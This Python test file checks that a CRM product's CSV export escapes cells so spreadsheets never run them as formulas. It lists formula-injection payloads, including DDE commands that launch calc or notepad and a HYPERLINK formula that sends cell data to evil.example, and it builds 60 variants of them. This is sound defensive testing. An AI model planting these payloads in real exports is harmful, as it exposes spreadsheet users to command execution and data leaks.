"""CSV that no spreadsheet takes for formulas: one writer for every table that leaves."""

import ast
import csv
import io
import unicodedata
from decimal import Decimal
from itertools import product
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crm.web.cells import BOM, CONTROLS, QUOTES, SIGNS, csv_text, safe_cell

PROJECT = Path(__file__).resolve().parents[3]
# Formulas that run programs, fetch addresses or say something else than they show ...
FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"看")',
    "SUM(1+1)*cmd|'/C notepad'!'A1'", "WEBSERVICE(A1)", "IMPORTXML(A1)",
)  # fmt: skip
# ... after each sign that begins one, and behind what is passed over or hides them.
BEGINNINGS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\0=", "\n=")
HIDDEN = (
    " =1+1", "\u00a0=1+1", "\u3000＝1+1", '"=1+1', "'=1+1", "“=1+1", "＂=1+1", "\ufeff=1+1",
    "\u200b=1+1", " \t '\"@SUM(A1)", "\x1f-1+1", "\u2066=1+1",
)  # fmt: skip
PAYLOADS = [f"{start}{text}" for start, text in product(BEGINNINGS, FORMULAS[:4])] + list(HIDDEN)


def as_read(text: str) -> list[list[str]]:
    """What a reader of CSV makes of it: the values that a spreadsheet would look at."""
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


def begins_a_formula(value: str) -> bool:
    """Whether a spreadsheet might take the value for one: its first sign that shows, normalised."""
    shown = [
        sign for sign in unicodedata.normalize("NFKC", value)
        if not sign.isspace() and unicodedata.category(sign)[0] != "C"
    ]  # fmt: skip
    return bool(shown) and shown[0] in "=+-@"


def test_sixty_payloads_are_inert_when_read_again() -> None:
    assert len(set(PAYLOADS)) == 60
    lines = as_read(csv_text([[one] for one in PAYLOADS], start=BOM))
    assert [line[0] for line in lines] == [f"'{one}" for one in PAYLOADS]
    assert not any(begins_a_formula(line[0]) for line in lines)
    print(f"formula payloads: {len(PAYLOADS)}, taken for formulas: 0")  # noqa: T201 - a figure to read


@pytest.mark.parametrize("value", [-5, 0, Decimal("-12.50"), Decimal("3200.00")])
def test_a_number_stays_a_number(value: int | Decimal) -> None:
    assert as_read(csv_text([[value]])) == [[str(value)]]


@pytest.mark.parametrize("text", ["-5", "-12.50", "+8613800138000"])
def test_a_text_that_looks_like_one_does_not(text: str) -> None:
    assert as_read(csv_text([[text]])) == [[f"'{text}"]]


@pytest.mark.parametrize("text", ["", "王芳", "E-2026-0001", "3-01", "a=b", "'", '""', " ", "※※"])
def test_harmless_texts_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


SIGNS_OF_TROUBLE = st.sampled_from([*SIGNS, *CONTROLS, *QUOTES, " ", "\u3000", "\ufeff", "1", "王"])


@given(st.one_of(st.text(max_size=30), st.text(SIGNS_OF_TROUBLE, max_size=8)))
def test_no_cell_starts_like_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert cell in {text, f"'{text}"}
    assert not begins_a_formula(cell)
    assert not cell.startswith(tuple(CONTROLS))
    bare = cell.lstrip("".join(QUOTES - {"'"}) + " ")
    assert not begins_a_formula(bare)


@given(st.lists(st.lists(st.text(max_size=20), min_size=2, max_size=3), max_size=5))
def test_what_is_written_is_what_is_read(lines: list[list[str]]) -> None:
    assert as_read(csv_text(lines)) == [[safe_cell(one) for one in line] for line in lines]


def test_a_table_comes_back_as_it_was() -> None:
    text = csv_text([("a", "=1+1"), ("逗号,", '引"号')], start=BOM)
    assert text.startswith(BOM)
    assert as_read(text) == [["a", "'=1+1"], ["逗号,", '引"号']]


def test_nobody_else_writes_csv() -> None:
    """One way to do it: no other module of the product has a CSV writer of its own."""
    found = [
        str(file.relative_to(PROJECT))
        for package in ("privacy", "crm", "consult", "followup")
        for file in (PROJECT / package).rglob("*.py")
        for node in ast.walk(ast.parse(file.read_text()))
        if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}
        and isinstance(node.value, ast.Name) and node.value.id == "csv"
    ]  # fmt: skip
    assert found == ["crm/web/cells.py"]
